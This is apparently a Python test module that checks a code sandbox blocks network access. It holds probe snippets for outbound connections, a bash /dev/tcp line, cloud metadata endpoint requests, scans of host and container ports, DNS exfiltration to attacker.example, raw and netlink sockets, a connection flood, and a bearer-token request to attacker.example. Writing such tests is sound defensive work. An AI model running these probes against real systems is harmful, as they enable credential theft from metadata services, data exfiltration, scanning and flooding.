# SPDX-License-Identifier: Apache-2.0
"""Network. Programs have none; what allow-lists and open ports may let through is for later."""
import os
import socket
import threading

from model import OK, Row, any_of, ended, every, never_says, probed, program, py, says, want, within
from ports import free_port

EGRESS = """
import socket
for family,to in ((socket.AF_INET,('1.1.1.1',443)),(socket.AF_INET6,('2606:4700:4700::1111',443,0,0))):
    s=socket.socket(family); s.settimeout(2)
    try: s.connect(to); print('OPEN')
    except OSError as e: print(e.errno)
    s=socket.socket(family,socket.SOCK_DGRAM)
    try: s.sendto(b'q',to); print('SENT')
    except OSError as e: print(e.errno)
"""
BASH_EGRESS = "exec 3<>/dev/tcp/1.1.1.1/443 && echo OPEN; exec 3<>/dev/udp/1.1.1.1/53 && echo OPEN; exit 0"
METADATA = """
import urllib.request
for u in ('http://169.254.169.254/latest/meta-data/','http://[fd00:ec2::254]/','http://metadata.google.internal/','http://100.100.100.200/','http://0.0.0.0:80/','http://2852039166/'):
    try: print(u,urllib.request.urlopen(u,timeout=2).status)
    except Exception as e: print(type(e).__name__)
"""
# With the host's own addresses, the service's port, and a listener of the test as arguments.
NEIGHBOURS = """
import socket,sys
ports=[22,80,2375,5432,6379,8080,10250]+[int(p) for p in sys.argv[1].split(',')]
for h in ['127.0.0.1','10.0.0.1','172.17.0.1','192.168.0.1','host.docker.internal']+sys.argv[2].split(','):
    for p in ports:
        s=socket.socket(); s.settimeout(.2)
        try:
            if s.connect_ex((h,p))==0: print('OPEN',h,p)
        except OSError: pass
s=socket.socket(socket.AF_UNIX)
try: s.connect('\\0'+sys.argv[3]); print('OPEN unix')
except OSError as e: print(e.errno)
"""
DNS = """
import socket
n=0
for i in range(50):
    try: socket.getaddrinfo(f'secret{i}.attacker.example',80); print('RESOLVED')
    except OSError: n+=1
print(n)
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
try: s.sendto(b'q',('8.8.8.8',53)); print('SENT')
except OSError as e: print(e.errno)
"""
SOCKETS = """
import socket
for fam,typ in ((socket.AF_INET,socket.SOCK_RAW),(socket.AF_INET6,socket.SOCK_RAW),(17,3),(16,3),(40,1),(38,5),(31,3),(44,3),(29,3),(21,5)):
    try: socket.socket(fam,typ); print('MADE',fam)
    except OSError as e: print(fam,e.errno)
"""
# Interfaces, routes and neighbours: an empty network, and nothing to change in it.
NETLINK = """
import socket,struct
print([name for _,name in socket.if_nameindex()])
s=socket.socket(16,3,0)
# RTM_NEWLINK, create a dummy link
body=struct.pack('=BxHiII',0,0,0,1,0xffffffff)
s.send(struct.pack('=IHHII',16+len(body),16,5|0x400,1,0)+body)
print(struct.unpack('=i',s.recv(4096)[16:20])[0])
"""
FLOOD = """
import socket
n=0
while True:
    try:
        s=socket.socket(); s.setblocking(False)
        if s.connect_ex(('198.51.100.1',80)) in (0,115): print('SENT')
    except OSError: pass
"""
SERVER = """
import http.server,sys
http.server.test(port=int(sys.argv[1]))
"""
PLACEHOLDER = """
import urllib.request
try: print(urllib.request.urlopen(urllib.request.Request('http://attacker.example/',headers={'Authorization':'Bearer PLACEHOLDER'})).status)
except OSError as e: print(type(e).__name__)
"""

UNREACHABLE = ("101", "99", "97", "113")


def closed(run):
    OK(run)
    want(run.lines and set(run.lines) <= set(UNREACHABLE), "the network is unreachable", run.answer)


def addresses():
    """This machine's own, as another machine or an interface names them."""
    found = {"127.0.0.1"}
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.connect(("198.51.100.1", 9))
            found.add(s.getsockname()[0])
        except OSError:
            pass
    return sorted(found)


def host_services(rig):
    """Neither the service's own port, nor a listener on every address, nor an abstract socket."""
    name = f"csb-security-{os.getpid()}"
    with socket.create_server(("0.0.0.0", 0)) as tcp, socket.socket(socket.AF_UNIX) as local:
        local.bind("\0" + name)
        local.listen()
        ports = f"{tcp.getsockname()[1]},{rig.service.port}"
        run = rig.run("python", NEIGHBOURS, args=[ports, ",".join(addresses()), name])
    want(run.answer["status"] == "ok" and run.out == "111\n", "nothing of the host is reached", run.answer)


def exposed_port(rig):
    """A server in a sandbox is reached from nowhere else."""
    port = free_port()
    answers = []
    limit = 3 if rig.world.emulated else 1
    thread = threading.Thread(target=lambda: answers.append(
        rig.run("python", SERVER, args=[str(port)], timeout=limit)))
    thread.start()
    reached = []
    while thread.is_alive():
        with socket.socket() as s:
            s.settimeout(0.2)
            if s.connect_ex(("127.0.0.1", port)) == 0:
                reached.append(port)
        thread.join(0.1)
    want(not reached, "the port is not on the host", reached)
    want(answers and answers[0].answer["status"] == "timeout", "the server ran to its limit", answers)


def network_refused(rig):
    for value in (True, "all", "allow-all", {"allow": ["*"]}, ["1.1.1.1"], 1):
        rig.refused(field="network", network=value)
    for field in ("ports", "allow_hosts", "dns", "proxy"):
        rig.refused(field=field, **{field: ["x"]})


def rows(_):
    raw = {"2 1", "2 93", "10 1", "10 93"}
    kinds = {"17 1", "MADE 16", "40 1", "38 1", "31 1", "44 1", "29 1", "21 1"}
    policy = "network policy"
    return [
        Row(62, "egress with the network off",
            [py(EGRESS, every(closed, within(1))), *probed(connect="101"),
             program("bash", BASH_EGRESS, every(ended("ok"), says(""), within(1)))],
            action=network_refused, later=f"{policy} (off is what there is)"),
        Row(63, "metadata services",
            [py(METADATA, every(OK, lambda run: want(set(run.lines) <= {"URLError", "OSError", "TimeoutError"},
                                                     "errors alone", run.answer)))],
            later=f"{policy} (allow-lists, and names that resolve to such addresses)"),
        Row(64, "the host and other sandboxes", action=host_services,
            later=f"{policy} (with the network on)"),
        Row(65, "exfiltration by DNS", [py(DNS, every(OK, says("50\n101\n")))],
            later=f"{policy} (a resolver that answers allowed names only)"),
        Row(67, "raw, packet, netlink, vsock and stranger sockets",
            [py(SOCKETS, every(OK, lambda run: want(set(run.lines) <= raw | kinds, "only netlink",
                                                    run.answer))),
             py(NETLINK, any_of(every(OK, says("['lo']\n-1\n")))), *probed(packet=None, vsock=None)]),
        Row(68, "connection flood",
            [py(FLOOD, every(ended("timeout", "timeout"), never_says("SENT")), timeout=1)],
            later=f"{policy} (caps on packets and connections)"),
        Row(70, "a server in a sandbox", action=exposed_port),
        Row(91, "placeholder secrets at egress",
            [py(PLACEHOLDER, every(OK, says("URLError\n")))],
            later=f"{policy} with secrets put in at egress"),
    ]
